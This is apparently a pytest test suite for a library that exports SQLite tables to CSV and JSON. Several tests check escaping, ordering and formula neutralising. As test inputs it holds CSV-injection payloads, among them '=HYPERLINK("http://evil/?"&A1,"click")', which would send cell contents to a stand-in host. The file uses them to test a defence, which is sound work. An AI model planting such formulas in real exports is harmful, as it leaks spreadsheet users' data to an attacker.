"""What exports of tables hold: every value, in CSV and JSON, written by SQLite and by Python alike."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import math
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bulkops.errors import Refusal
from bulkops.resources.schema import read_tables
from bulkops.resources.table import encoding
from bulkops.resources.table.encoding import OddError, Writing, read_back
from bulkops.timing import parse_rfc3339
from tests.engine_house import OWNER, dump, execute, make_database, opened, outcomes, rested, run, undo

WHOLE = Writing(csv=True)
RAW = Writing(csv=True, safe=False)
JSON = Writing(csv=False)
EXACT = Writing(csv=False, exact=True)

TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
VALUES = st.one_of(
    st.none(), st.integers(-(2**63), 2**63 - 1), st.floats(allow_nan=False), TEXTS, st.binary(max_size=8)
)
FORMULA_LIKE = st.text('=+-@＝ \t\r\n\f\b\u200b\u2003\\"[],{:}019.eEa', max_size=6)
ODD_TEXTS = (
    '=HYPERLINK("http://evil","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u200b=1",
    "\uff1d1", "-5", "+49", "-1.5e3", 'a"b', "a,b", "a\r\nb", "null", ',null,"x"', '{"":0}', '","', "]\r\n[",
    "\\", '\\"', "\\n", "\x01", "\x00", "\x07", "é", "🙂", "\u2028", "", " ", "'",
)  # fmt: skip


def database(rows: list[tuple[Any, ...]], declared: str) -> sqlite3.Connection:
    connection = sqlite3.connect(":memory:")
    connection.execute(f"CREATE TABLE t (id INTEGER PRIMARY KEY, a {declared}, b {declared})")
    connection.executemany("INSERT INTO t (a, b) VALUES (?, ?)", rows)
    return connection


def by_sqlite(connection: sqlite3.Connection, writing: Writing) -> bytes | None:
    """Write all rows the fast way; ``None`` when that way gives them up."""
    table = read_tables(connection)["t"]
    encoding.register(connection, writing)
    try:
        found = connection.execute(f"SELECT {encoding.line_sql(table, writing)} FROM t ORDER BY id")
        lines = [row[0] for row in found]
        return encoding.csv_bytes("\n".join(lines), writing) if writing.csv else "\n".join(lines).encode()
    except (OddError, sqlite3.OperationalError):
        return None


def by_python(connection: sqlite3.Connection, writing: Writing) -> bytes:
    columns = encoding.stored(read_tables(connection)["t"])
    rows = connection.execute("SELECT id, a, b FROM t ORDER BY id").fetchall()
    if writing.csv:
        return b"".join(encoding.csv_line(row, writing) for row in rows)
    return b"\n".join(encoding.json_line(columns, row, writing) for row in rows)


def told(value: Any, *, safe: bool) -> str:
    """Say what a reader of the CSV sees for a value."""
    if value is None:
        return ""
    if isinstance(value, bytes):
        return "base64:" + base64.b64encode(value).decode()
    if isinstance(value, float) and math.isinf(value):
        return "Infinity" if value > 0 else "-Infinity"
    if isinstance(value, (int, float)):
        return repr(value)
    text = str(value).replace("\x00", "\ufffd")
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", text, re.ASCII)
    formula = re.match(r"[\t\r\n]|[\s\ufeff\u200b-\u200f\u2060]*[=+\-@＝＋－＠]", text)
    return "'" + text if safe and formula and not number else text


@pytest.mark.parametrize("writing", [WHOLE, RAW], ids=["safe", "raw"])
@pytest.mark.parametrize("declared", ["", "TEXT", "INTEGER", "REAL", "NUMERIC", "BLOB"])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(VALUES, VALUES), max_size=6))
@example(rows=[(text, text) for text in ODD_TEXTS])
@example(
    rows=[
        (text, None) for text in ODD_TEXTS if "\x00" not in text and "\x01" not in text and "\x07" not in text
    ]
)
@example(rows=[(math.inf, -math.inf), (0.1 + 0.2, -0.0), (2**53 + 1, -(2**63)), (1e300, 5e-324)])
def test_csv_is_read_back_as_what_the_rows_hold_whoever_wrote_it(
    declared: str, writing: Writing, rows: list[tuple[Any, Any]]
) -> None:
    with closing(database(rows, declared)) as connection:
        stored = connection.execute("SELECT id, a, b FROM t ORDER BY id").fetchall()
        wanted = [[told(value, safe=writing.safe) for value in row] for row in stored]
        for content in (by_sqlite(connection, writing), by_python(connection, writing)):
            if content is None:
                continue
            found = list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))
            assert [[as_number(cell) for cell in row] for row in found] == [
                [as_number(cell) for cell in row] for row in wanted
            ]


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.tuples(FORMULA_LIKE, FORMULA_LIKE), min_size=1, max_size=4))
def test_sqlite_and_python_agree_on_what_a_formula_is(rows: list[tuple[str, str]]) -> None:
    with closing(database(rows, "TEXT")) as connection:
        assert by_sqlite(connection, WHOLE) == by_python(connection, WHOLE)


def test_minus_infinity_among_numbers_is_no_formula() -> None:
    with closing(database([(-math.inf, "-Infinity"), (1.5, "=1")], "")) as connection:
        assert by_sqlite(connection, WHOLE) is None
        assert by_python(connection, WHOLE).split(b"\r\n")[0] == b'1,"-Infinity","\'-Infinity"'


def as_number(cell: str) -> Any:
    """Two spellings of one float are one value."""
    float_ = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?", cell) and re.search(r"[.e]", cell)
    return float(cell) if float_ else cell


@pytest.mark.parametrize("declared", ["", "TEXT", "INTEGER", "REAL", "NUMERIC", "BLOB"])
@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.tuples(VALUES, VALUES), max_size=6))
@example(rows=[(text, text) for text in ODD_TEXTS])
@example(rows=[(math.inf, -math.inf), (0.1 + 0.2, 1e16), (2**53 + 1, -(2**63)), (b"\xff", b"")])
def test_exact_json_holds_every_value_and_its_type(declared: str, rows: list[tuple[Any, Any]]) -> None:
    with closing(database(rows, declared)) as connection:
        stored = connection.execute("SELECT id, a, b FROM t ORDER BY id").fetchall()
        for content in (by_sqlite(connection, EXACT), by_python(connection, EXACT)):
            if content is None:
                continue
            lines = [json.loads(line) for line in content.split(b"\n") if line]
            back = [tuple(read_back(line[name]) for name in ("id", "a", "b")) for line in lines]
            assert [[(type(value), value) for value in row] for row in back] == [
                [(type(value), value) for value in row] for row in stored
            ]


def test_sqlite_writes_what_is_ordinary_and_leaves_to_python_only_what_is_not() -> None:
    ordinary = [text for text in ODD_TEXTS if not any(c in text for c in "\x00\x01\x07")]
    with closing(database([(text, text) for text in ordinary], "TEXT")) as connection:
        assert by_sqlite(connection, WHOLE) == by_python(connection, WHOLE)
    with closing(database([("a\x00b", None)], "TEXT")) as connection:
        assert by_sqlite(connection, WHOLE) is None


def test_null_and_the_empty_text_are_not_the_same_in_csv() -> None:
    with closing(database([(None, "")], "TEXT")) as connection:
        assert by_sqlite(connection, WHOLE) == b'1,,""\r\n'


def test_json_for_everybody_says_large_integers_as_text() -> None:
    with closing(database([(2**53 - 1, 2**53)], "INTEGER")) as connection:
        assert by_sqlite(connection, JSON) == by_python(connection, JSON)
        assert by_sqlite(connection, JSON) == b'{"id":1,"a":9007199254740991,"b":"9007199254740992"}'


# --- whole exports -----------------------------------------------------------------------------------

SESSIONS = """
CREATE TABLE sessions (id TEXT PRIMARY KEY, status TEXT, name TEXT, size INTEGER);
CREATE TABLE exports (id INTEGER PRIMARY KEY, session_id TEXT REFERENCES sessions (id), path TEXT, data);
WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 40)
INSERT INTO sessions SELECT 's-' || i, CASE i % 4 WHEN 0 THEN 'processing' ELSE 'open' END, 'n' || i, i FROM n;
INSERT INTO exports (session_id, path, data) SELECT id, '=' || id, x'00ff' FROM sessions
 WHERE id IN ('s-1', 's-2', 's-3');
"""
RESOURCE = {
    "table": "sessions",
    "id": "id",
    "status": {"column": "status", "closed": "closed", "archived": "archived", "busy": ["processing"]},
    "search": ["status"],
    "children": [{"table": "exports", "key": "session_id", "optional": True}],
}


def made(folder: Path, job: Any) -> bytes:
    """Return the bytes of a job's one file."""
    (artifact,) = job.artifacts
    assert artifact.status == "ready"
    content: bytes = (folder / "bulkops-data" / "artifacts" / artifact.id).read_bytes()
    assert len(content) == artifact.bytes
    return content


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


async def test_an_export_holds_the_rows_in_the_order_asked_and_nothing_that_is_unfit(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "export", ids=["s-7", "s-1", "s-4", "s-99"])
        assert (job.succeeded, job.skipped, job.undo_until) == (2, 2, None)
        assert "undo" not in job.allowed_actions
        assert await outcomes(runtime, job.id) == {
            "s-7": "succeeded", "s-1": "succeeded", "s-4": "skipped INELIGIBLE", "s-99": "skipped NOT_FOUND",
        }  # fmt: skip
        assert cells(made(tmp_path, job)) == [
            ["id", "status", "name", "size"], ["s-7", "open", "n7", "7"], ["s-1", "open", "n1", "1"],
        ]  # fmt: skip
        assert job.artifacts[0].rows == 2


async def test_an_export_of_nothing_is_a_file_with_a_header(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    wanted = {"csv": b'"id","status","name","size"\r\n', "json": b"[\n]\n", "ndjson": b""}
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        for format_, content in wanted.items():
            options = {"format": format_}
            job = await run(runtime, "sessions", "export", filter={"status": "gone"}, options=options)
            assert (job.status, job.total, job.artifacts[0].rows) == ("completed", 0, 0)
            assert made(tmp_path, job) == content


async def test_details_are_nested_in_json_and_a_column_in_csv(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    options = {"include_details": True}
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(
            runtime, "sessions", "export", ids=["s-1", "s-5"], options={**options, "format": "json"}
        )
        first, second = json.loads(made(tmp_path, job))
        assert first["exports"] == [
            {"id": 1, "session_id": "s-1", "path": "=s-1", "data": {"$base64": "AP8="}}
        ]
        assert second["exports"] == []
        job = await run(runtime, "sessions", "export", ids=["s-1"], options=options)
        header, row = cells(made(tmp_path, job))
        assert header[-1] == "exports"
        assert json.loads(row[-1]) == first["exports"]


async def test_a_formula_stays_text_unless_somebody_wants_it_raw(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil/?"&A1,"click")'
    make_database(tmp_path / "app.db", SESSIONS)
    execute(tmp_path / "app.db", "UPDATE sessions SET name = ? WHERE id = 's-1'", formula)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        safe = await run(runtime, "sessions", "export", ids=["s-1"])
        assert cells(made(tmp_path, safe))[1][2] == "'" + formula
        raw = await run(runtime, "sessions", "export", ids=["s-1"], options={"formulas": "raw", "bom": True})
        content = made(tmp_path, raw)
        assert content.startswith(b"\xef\xbb\xbf")
        assert cells(content)[1][2] == formula


@pytest.mark.parametrize(
    "options",
    [{"format": "xlsx"}, {"bom": 1}, {"formulas": "run"}, {"include_details": "yes"}, {"hard": True}],
)
async def test_options_that_are_wrong_are_refused(tmp_path: Path, options: dict[str, Any]) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        with pytest.raises(Refusal, match="options"):
            await run(runtime, "sessions", "export", ids=["s-1"], options=options)


async def test_text_that_is_no_utf8_costs_nobody_anything(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    execute(tmp_path / "app.db", "UPDATE sessions SET name = CAST(x'61ff62' AS TEXT) WHERE id = 's-1'")
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "export", ids=["s-1", "s-2"])
        assert [row[2] for row in cells(made(tmp_path, job))] == ["name", "a\ufffdb", "n2"]
        job = await run(runtime, "sessions", "archive", ids=["s-1"])
        (line,) = gzip.decompress(made(tmp_path, job)).splitlines()
        assert json.loads(line)["name"] == {"$text": base64.b64encode(b"a\xffb").decode()}


async def test_a_row_that_goes_while_the_export_runs_is_skipped_and_the_rest_is_whole(tmp_path: Path) -> None:
    app = make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "export", ids=["s-1", "s-5", "s-6"], canary=1)
        assert job.status == "paused"
        assert [each.status for each in job.artifacts] == ["building"]
        execute(app, "UPDATE sessions SET status = 'processing' WHERE id = 's-5'")
        await runtime.service.resume(OWNER, job.id)
        job = await rested(runtime, job.id)
        assert (await outcomes(runtime, job.id))["s-5"] == "skipped CONFLICT"
        assert [row[0] for row in cells(made(tmp_path, job))] == ["id", "s-1", "s-6"]


async def test_a_cancelled_export_leaves_no_file(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "export", all=True, canary=5)
        folder = tmp_path / "bulkops-data" / "artifacts"
        assert [path.suffix for path in folder.iterdir()] == [".part"]
        view = await runtime.service.cancel(OWNER, job.id)
        assert [each.status for each in view.artifacts] == ["failed"]
        assert list(folder.iterdir()) == []


async def test_an_atomic_export_is_whole_or_not_there(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "export", ids=["s-1", "s-4"], atomic=True)
        assert (job.status, job.succeeded) == ("failed", 0)
        assert [each.status for each in job.artifacts] == ["failed"]
        job = await run(runtime, "sessions", "export", ids=["s-1", "s-2"], atomic=True)
        assert len(cells(made(tmp_path, job))) == 3


async def test_at_most_ten_thousand_rows_are_exported_where_nothing_else_is_said(tmp_path: Path) -> None:
    many = (
        "CREATE TABLE sessions (id INTEGER PRIMARY KEY, status TEXT);"
        "WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i <= 10000)"
        "INSERT INTO sessions SELECT i, 'open' FROM n;"
    )
    make_database(tmp_path / "app.db", many)
    plain = {"table": "sessions", "id": "id"}
    more = {**plain, "actions": {"export": {"max_items": 20_000}}}
    async with opened(tmp_path, {"plain": plain, "more": more}) as runtime:
        with pytest.raises(Refusal, match="10000") as refused:
            await run(runtime, "plain", "export", all=True)
        assert refused.value.code == "TOO_MANY_ITEMS"
        job = await run(runtime, "more", "export", all=True, options={"format": "ndjson"})
        assert [json.loads(line)["id"] for line in made(tmp_path, job).splitlines()] == list(range(1, 10_002))


async def test_long_rows_are_written_a_few_at_a_time(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("bulkops.resources.table.exporting._MAX_PIECE", 1000)
    make_database(tmp_path / "app.db", SESSIONS)
    execute(tmp_path / "app.db", "UPDATE sessions SET name = printf('%.*c', size * 30, 'x') || id")
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        for options in ({}, {"include_details": True}):
            job = await run(runtime, "sessions", "export", filter={"status": "open"}, options=options)
            found = {row[0]: row[2] for row in cells(made(tmp_path, job))[1:]}
            assert found == {f"s-{i}": "x" * (i * 30) + f"s-{i}" for i in range(1, 41) if i % 4}


@pytest.mark.parametrize("odd", ["plain", "a bell \x07 among them"])
async def test_rows_keep_their_order_over_the_ends_of_blocks_pieces_and_batches(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, odd: str
) -> None:
    monkeypatch.setattr("bulkops.resources.table.exporting._PIECE_ROWS", 7)
    monkeypatch.setattr("bulkops.resources.table.exporting._AT_ONCE", 3)
    app = make_database(
        tmp_path / "app.db",
        "CREATE TABLE rows (id INTEGER PRIMARY KEY, name TEXT);"
        "WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 60)"
        "INSERT INTO rows SELECT i, 'n' || i FROM n",
    )
    execute(app, "UPDATE rows SET name = ? WHERE id = 24", odd)
    names = {str(i): odd if i == 24 else f"n{i}" for i in range(1, 61)}
    scattered = [str(i) for i in (*range(60, 20, -1), *range(1, 21, 3))]
    async with opened(tmp_path, {"rows": {"table": "rows", "id": "id"}}) as runtime:
        for wanted in ({"all": True}, {"ids": scattered}):
            ids = scattered if "ids" in wanted else list(names)
            rows = [(int(each), names[each]) for each in ids]
            job = await run(runtime, "rows", "export", **wanted, batch_size=25)
            assert [(int(row[0]), row[1]) for row in cells(made(tmp_path, job))[1:]] == rows
            job = await run(runtime, "rows", "export", **wanted, batch_size=25, options={"format": "json"})
            assert [(row["id"], row["name"]) for row in json.loads(made(tmp_path, job))] == rows
            job = await run(runtime, "rows", "export", **wanted, batch_size=25, options={"format": "ndjson"})
            lines = made(tmp_path, job).split(b"\n")
            assert lines.pop() == b""
            assert [(json.loads(line)["id"], json.loads(line)["name"]) for line in lines] == rows


COMPOSITE = """
CREATE TABLE tracks (list INTEGER, track TEXT COLLATE NOCASE, note TEXT, PRIMARY KEY (list, track)) WITHOUT ROWID;
CREATE TABLE names (name TEXT PRIMARY KEY COLLATE NOCASE, n INTEGER, up AS (n + 1));
INSERT INTO tracks VALUES (1, 'a', 'x'), (1, 'b', 'y'), (2, 'a', NULL);
INSERT INTO names VALUES ('Ab', 1), ('cd', 2);
"""


async def test_composite_keys_odd_collations_and_computed_columns_are_no_trouble(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", COMPOSITE)
    resources = {
        "tracks": {"table": "tracks", "id": ["list", "track"]}, "names": {"table": "names", "id": "name"},
    }  # fmt: skip
    async with opened(tmp_path, resources) as runtime:
        job = await run(runtime, "tracks", "export", ids=["2,a", "1,b"])
        assert cells(made(tmp_path, job))[1:] == [["2", "a", ""], ["1", "b", "y"]]
        job = await run(runtime, "names", "export", all=True)
        assert cells(made(tmp_path, job)) == [["name", "n"], ["Ab", "1"], ["cd", "2"]]


async def test_rows_are_made_again_from_an_archive_to_the_byte(tmp_path: Path) -> None:
    odd = (
        "INSERT INTO sessions VALUES ('odd', 'open', CAST(x'c328' AS TEXT), 9223372036854775807);"
        "INSERT INTO exports VALUES (77, 'odd', 'p', 9e999), (78, 'odd', NULL, 0.1), (79, 'odd', 5, x'');"
    )
    app = make_database(tmp_path / "app.db", SESSIONS + odd)
    async with opened(tmp_path, {"sessions": RESOURCE}) as runtime:
        job = await run(runtime, "sessions", "archive", filter={"status": "open"}, batch_size=7)
        assert (job.succeeded, job.artifacts[0].kind, job.artifacts[0].format) == (31, "archive", "ndjson.gz")
        before = dump(app)
        content = gzip.decompress(made(tmp_path, job))
        gone = await run(
            runtime,
            "sessions",
            "delete",
            filter={"status": "archived"},
            options={"hard": True, "cascade": True},
        )
        assert gone.succeeded == 31
        with closing(sqlite3.connect(app, isolation_level=None)) as connection:
            for line in content.splitlines():
                record = json.loads(line)
                insert(connection, "exports", record.pop("exports"))
                insert(connection, "sessions", [record])
        after = dump(app)
        assert after["exports"] == before["exports"]
        assert sorted(row[1:] for row in after["sessions"]) == sorted(row[1:] for row in before["sessions"])
        back = await undo(runtime, job.id)
        assert (back.succeeded, back.artifacts) == (31, [])


def insert(connection: sqlite3.Connection, table: str, records: list[dict[str, Any]]) -> None:
    for record in records:
        marks = ", ".join("CAST(? AS TEXT)" if "$text" in str(value) else "?" for value in record.values())
        values = [
            value.encode("utf-8", "surrogateescape")
            if isinstance(value, str) and not value.isascii()
            else value
            for value in map(read_back, record.values())
        ]
        connection.execute(f"INSERT INTO {table} ({', '.join(record)}) VALUES ({marks})", values)


async def test_an_archive_may_stay_uncompressed_and_is_kept_as_long_as_the_trash(tmp_path: Path) -> None:
    make_database(tmp_path / "app.db", SESSIONS)
    async with opened(tmp_path, {"sessions": RESOURCE}, trash_days=3) as runtime:
        job = await run(runtime, "sessions", "archive", ids=["s-1"], options={"compress": False})
        assert json.loads(made(tmp_path, job))["status"] == "archived"
        finished, expires = job.finished_at, job.artifacts[0].expires_at
        assert finished is not None
        assert expires is not None
        assert parse_rfc3339(expires) - parse_rfc3339(finished) == 3 * 24 * 3_600_000
        assert execute(tmp_path / "app.db", "SELECT status FROM sessions WHERE id = 's-1'") == [("archived",)]
